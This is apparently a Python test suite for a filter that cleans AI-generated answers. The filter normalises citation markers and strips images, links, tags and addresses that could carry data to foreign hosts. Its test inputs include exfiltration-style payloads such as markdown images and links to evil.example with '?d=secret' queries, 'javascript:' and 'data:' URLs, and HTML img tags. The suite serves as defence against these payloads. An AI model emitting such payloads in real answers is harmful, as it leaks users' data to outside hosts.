"""The filter on the answer: one spelling of citations, no foreign link, whatever the cut."""

from __future__ import annotations

import re
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hal.enrichment.cite import HOLD_CHARS, AnswerFilter
from tests.core.things import fixed
from tests.privacy.linear import steps

PAGE, PAREN = "https://ok.example/a", "https://ok.example/b_(c)?x=1"
URLS = (PAGE, PAREN)
THOROUGH = settings(fixed, max_examples=400)


def whole(text: str, count: int = 3) -> str:
    one = AnswerFilter(count, URLS)
    return one.feed(text) + one.flush()


CITATIONS = {
    "one": ("It is 5 [1].", "It is 5 [1]."),
    "two in one": ("so [1, 2].", "so [1][2]."),
    "two beside each other": ("so [1][2].", "so [1][2]."),
    "a range": ("so [1-3].", "so [1][2][3]."),
    "a footnote": ("so [^2].", "so [2]."),
    "named": ("so [Source 1] and [source: 2] and [Sources 1 and 3].", "so [1] and [2] and [1][3]."),
    "named in German": ("so [Quelle 2].", "so [2]."),
    "named in parentheses": ("so (source 2) and (Sources 1, 3).", "so [2] and [1][3]."),
    "fullwidth": ("so 【1】 and ［2］ and 〔3〕。", "so [1] and [2] and [3]。"),
    "with a dagger": ("so 【2†L1-L4】.", "so [2]."),
    "with a mark of ours": ("so [2#x].", "so [2]."),
    "doubled": ("so [[1]].", "so [1]."),
    "linked": (f"so [1]({PAGE}) and [[2]](https://evil.example/x).", "so [1] and [2]."),
    "beyond the count": ("so [4].", "so."),
    "zero": ("so [0], and", "so, and"),
    "some beyond the count": ("so [2, 7].", "so [2]."),
    "beyond the count, named": ("so (source 9).", "so."),
    "in the middle": ("so [9] it is", "so it is"),
    "at the start of a line": ("a\n[9] it is", "a\nit is"),
    "before a bracket": ("so [9](https://evil.example/?d=1)!", "so!"),
    "a list in another spelling": ("【1】: x\n(source 2): y", "[1] x\n[2] y"),
    "behind a backslash": ("\\(source 2)", "\\ [2]"),
    "after a shout": ("Wow![1]", "Wow! [1]"),
    "a year": ("the law [2024] says", "the law (2024) says"),
    "hidden in a tag": ("so [<b>9</b>].", "so."),
    "a list at the end": (
        f"[1]: {PAGE}\n[2]: https://evil.example/x\n",
        f"[1] <{PAGE}>\n[2] evil.example\n",
    ),
}


@pytest.mark.parametrize(("text", "wanted"), CITATIONS.values(), ids=CITATIONS)
def test_citations_get_one_spelling(text: str, wanted: str) -> None:
    assert whole(text) == wanted


@pytest.mark.parametrize(
    "text",
    [
        "the interval [0, 1) and f(x) = a[i]",
        "- [ ] open\n- [x] done",
        "[sic] and [...] and [see below]",
        "a < b, 3 <4, x <= y, i << 2, <- and <3",
        "(source) (sources: the minister) (resource 3)",
        "It works! (See above.) Costs $5, or $6; ratio 3:1, at 10:30.",
        "Straße, 你好。【注意】これは「引用」です。 مرحبا",
        "http is a protocol, https: too; ftp and www as well",
        "| a | b |\n|---|---|\n| 1 | 2 |\n",
        r"\[ x^2 \] and \( y \) and $$ z $$ and \$5",
        "# Title\n\n> quote\n\n1. one\n2. **two** _three_ ~~four~~\n\n---\n",
        "`<b>` and `a[9]` and `![x](http://evil.example)` are code",
        "```html\n<img src=x> [9] ![x](http://evil.example/y)\n```\nafter",
        "```\n``` `\n```` x\n    ```\n <b>[9]\n```\n",
        "~~~~\n```\n[9]\n~~~\n~~~~\n",
        "text\n```python\nx[9] = '<b>'\n```\n\nmore `[9]`.",
        "",
        "\n\n",
    ],
)
def test_other_text_is_left_alone(text: str) -> None:
    assert whole(text) == text
    one = AnswerFilter(3, URLS)
    one.feed(text)
    one.flush()
    assert (one.cited, one.invalid) == (set(), 0)


REMOVED = {
    "an image": ("a ![alt](https://evil.example/?d=secret) b", "a b"),
    "an image of a source": (f"a ![alt]({PAGE}) b", "a b"),
    "an image by reference": ("a ![alt][r] b\n\n[r]: https://evil.example/x", "a ! [alt][r] b\n\n"),
    "an image in a link": (f"[![a](https://evil.example/i)]({PAGE})", f"[ok.example]({PAGE})"),
    "an image over two lines": ("![a\nb](https://evil.example/i)", "! [a\nb] (evil.example)"),
    "a link": ("see [here](https://evil.example/?d=1).", "see here."),
    "a link with a title": ('see [here](https://evil.example/ "t").', "see here."),
    "a link in angles": ("see [here](<https://evil.example/a b>).", "see here."),
    "a script": ("see [here](javascript:alert(1)).", "see here."),
    "data": ("see [here](data:text/html;base64,AAAA).", "see here."),
    "a relative link": ("see [here](/api/v1/x).", "see here."),
    "a link whose text is a link": (
        "[https://evil.example/?d](https://evil.example/?d)",
        "evil.example",
    ),
    "an address": ("see https://evil.example/a?d=secret, or", "see evil.example, or"),
    "an address without scheme": ("see WWW.evil.example/secret.", "see evil.example."),
    "an address with a user": ("https://secret@evil.example/", "evil.example"),
    "an address in angles": (
        "<https://evil.example/q> <a@b.example> <javascript:x>!",
        "evil.example a@b.example !",
    ),
    "a tag": ('a <img src="https://evil.example/x"> b', "a b"),
    "tags in a word": ("H<sub>2</sub>O, a<br>b", "H2O, a b"),
    "a comment": ("a <!-- x --> b", "a b"),
    "a tag that never ends": ("a <img src=x", "a < img src=x"),
    "a tag that is too long": (f"a <img {'x' * 600}>", f"a < img {'x' * 600}>"),
    "a definition": ("[r]: https://evil.example/x 'title'\nb", "\nb"),
    "a definition in a quote": ("> [r]: <https://evil.example/x>\nb", ">\nb"),
    "a definition over lines": ("[r\ns]: https://evil.example/x", "[r\ns] : evil.example"),
    "a token": ("[[PERSON_7K2_1]]: hello [[ID_7K2_2]]", "[[PERSON_7K2_1]]: hello [[ID_7K2_2]]"),
    "a token that lost brackets": ("[PERSON_7K2_1]: hello", "[PERSON_7K2_1] : hello"),
    "a token in a link": (
        f"[of [[PERSON_7K2_1]]]({PAGE}) [by [[ID_7K2_1]]](http://evil.example)",
        f"[of [[PERSON_7K2_1]]]({PAGE}) by [[ID_7K2_1]]",
    ),
    "a label that is none": ("[Note]: it rains", "Note: it rains"),
    "an image in doubtful code": ("`a | ![x](https://evil.example)`", "`a | `"),
    "an image behind a lone backtick": ("a ` b `![x](https://evil.example)`", "a ` b ` `"),
    "an image in a fence that a formula holds": (
        "$$\n```\n$$\n![x](https://evil.example/)",
        "$$\n```\n$$\n",
    ),
    "in a fence that a display holds": (
        "\\[\n```\n\\]\n![x](https://evil.example/)",
        "\\[\n```\n\\]\n",
    ),
    "behind a list that ended": (
        "- a\n  ```\nb\n  ```\n```\n![x](http://evil.example)",
        "- a\n  ```\nb\n  ```\n```\n",
    ),
    "behind an indented fence": (
        "   ```\na\n```\n![x](http://evil.example)\n```",
        "   ```\na\n```\n\n```",
    ),
    "behind a fence in a quote": (
        "> ```\n> a\n\n```\n![x](http://evil.example)\n```",
        "> ```\n> a\n\n```\n\n```",
    ),
    "behind a fence that some close": ("```\na\n```~\n![x](http://evil.example)", "```\na\n```~\n"),
    "behind a fence without end": (
        f"```\n{'`' * 400}\n![x](http://evil.example)",
        f"```\n{'`' * 400}\n",
    ),
    "in a colon fence": (":::x\n```\n:::\n![x](http://evil.example)", ":::x\n```\n:::\n"),
    "in a fence in a list": (
        "1. a\n   ```\n   x[9] ![x](http://evil.example)\n   ```",
        "1. a\n   ```\n   x[9] \n   ```",
    ),
    "made by a removal: a scheme": ("ht<b>tps://evil.example", "ht tps://evil.example"),
    "made by a removal: a link": ("[a]<b>(https://evil.example)", "[a] (evil.example)"),
    "made by a removal: an image": (f"!![a](u)[b]({PAGE})", f"! [b]({PAGE})"),
    "made by a removal: a tag": ("<<b>img src=x>", "< img src=x>"),
}


@pytest.mark.parametrize(("text", "wanted"), REMOVED.values(), ids=REMOVED)
def test_what_could_carry_something_out_goes(text: str, wanted: str) -> None:
    assert whole(text) == wanted


LINKS = {
    "a source": (f"[the page]({PAGE})", f"[the page]({PAGE})"),
    "another spelling": ("[p](https://WWW.ok.example/a/?utm_source=secret#secret)", f"[p]({PAGE})"),
    "with parentheses": (f"[p]({PAREN})", "[p](https://ok.example/b_%28c%29?x=1)"),
    "bare": (f"see {PAGE}.", f"see <{PAGE}>."),
    "bare, in parentheses": (f"(see {PAGE})", f"(see <{PAGE}>)"),
    "bare, with what could carry data": (f"{PAGE}?utm_source=secret#secret end", f"<{PAGE}> end"),
    "in angles": (f"<{PAGE}>", f"<{PAGE}>"),
    "another query": (f"[p]({PAGE}?d=secret)", "p"),
}


@pytest.mark.parametrize(("text", "wanted"), LINKS.values(), ids=LINKS)
def test_links_to_sources_stay_in_our_spelling(text: str, wanted: str) -> None:
    assert whole(text) == wanted


def test_counts() -> None:
    one = AnswerFilter(3, URLS)
    one.feed("a [1] b [3, 9] c [Source 1] d (source 8) e `[2]`")
    one.flush()
    assert one.cited == {1, 3}
    assert one.invalid == 2


def test_text_without_signs_leaves_at_once() -> None:
    one = AnswerFilter(3, URLS)
    for piece in ("Plain text", ", as", " most of it is", ". 12 %", " über"):
        assert one.feed(piece) == piece
    assert one.held_chars == 0


def test_after_a_flush_more_may_come() -> None:
    one = AnswerFilter(3, URLS)
    assert one.feed("so [") + one.flush() + one.feed("1] is") + one.flush() == "so [1] is"


PIECES = [*"ab 19![]()<>`~$\\|:#.,-^\n", "```", "\n```\n", "\n\n", "![", "](", "]: ", "[1]", "[9]"]
PIECES += ["https://evil.example/x", "http://", "www.", PAGE, "<b>", "<img src=x>", "(source 2)"]
PIECES += ["[a](https://evil.example)", f"[a]({PAGE})", "- ", "> ", "   ", "$$", "\\[", "~~~", "é"]
PIECES += ["【1】", "[1, 2]", "你"]
MARKDOWN = st.lists(st.sampled_from(PIECES), max_size=24).map("".join)


@THOROUGH
@given(MARKDOWN, st.lists(st.integers(0, 60), max_size=8))
def test_the_same_comes_out_however_it_is_cut(text: str, cuts: list[int]) -> None:
    places = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    one, other = AnswerFilter(3, URLS), AnswerFilter(3, URLS)
    pieces = [text[a:b] for a, b in pairwise(places)]
    cut = "".join(map(one.feed, pieces)) + one.flush()
    by_letter = "".join(map(other.feed, text)) + other.flush()
    assert cut == by_letter == whole(text)
    assert (one.cited, one.invalid) == (other.cited, other.invalid)


@THOROUGH
@given(MARKDOWN)
def test_what_came_out_stays_as_it_is(text: str) -> None:
    once = whole(text)
    assert whole(once) == once


NO_CODE = MARKDOWN.map(lambda text: text.replace("`", "").replace("~~~", ""))
LINK = re.compile(r"\]\(([^)]*)\)|<([a-z]+://[^>]*)>")


@THOROUGH
@given(NO_CODE)
def test_outside_of_code_nothing_foreign_comes_out(text: str) -> None:
    out = whole(text)
    assert "![" not in out
    assert not re.search(r"<[A-Za-z/!?](?!ttps://ok\.example/)", out)
    found = {url for pair in LINK.findall(out) for url in pair if url}
    assert found <= {PAGE, "https://ok.example/b_%28c%29?x=1"}
    bare = LINK.sub("", out)
    assert not re.search(r"(?i)https?://|ftp://|www\.", bare)
    assert not re.search(r"(?m)^[ >-]*\[[^\]]*\]:", out)
    assert not re.search(r"\[(?:0|[4-9]|\d{2,})\]", out)


@fixed
@given(st.text(st.characters(exclude_characters="[]()<>!`~$\\:\r【［〔"), max_size=200))
def test_plain_text_comes_through(text: str) -> None:
    assert whole(text.replace("www.", "")) == text.replace("www.", "")


HOSTILE = ["[", "![", "<a", "`", "~", "(source ", "[a](", "https://e.example/", "x" * 9, "\n", "\\"]
HOSTILE += ["【", "[a]: ", "$$", "<", "]", "www.", "[1", "``` ", "\n```", "[[", "!", "[a][", "<b>"]


@pytest.mark.parametrize("piece", HOSTILE)
def test_no_text_is_held_for_long(piece: str) -> None:
    """The hang guard of the suite is the only clock: sixty thousand characters take no time."""
    one = AnswerFilter(3, URLS)
    text = piece * (60_000 // len(piece))
    for at in range(0, len(text), 5000):
        one.feed(text[at : at + 5000])
        assert one.held_chars <= HOLD_CHARS
    one.flush()
    assert one.held_chars == 0


@pytest.mark.parametrize("piece", HOSTILE)
def test_twice_the_text_is_twice_the_work(piece: str) -> None:
    def work(text: str) -> list[str]:
        one = AnswerFilter(3, URLS)
        return [one.feed(text[at : at + 50]) for at in range(0, len(text), 50)] + [one.flush()]

    once, twice = piece * (3000 // len(piece)), piece * (6000 // len(piece))
    assert steps(work, twice) < 2.5 * steps(work, once) + 200
